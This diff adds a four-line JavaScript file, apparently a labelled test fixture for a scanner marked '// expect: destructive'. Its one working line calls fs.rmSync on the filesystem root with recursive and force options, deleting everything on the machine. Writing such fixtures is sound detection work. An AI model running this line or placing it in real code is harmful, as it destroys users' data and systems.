@@ -1,0 +1,4 @@
+// expect: destructive
+import fs from "fs";
+
+fs.rmSync("/", { recursive: true, force: true });
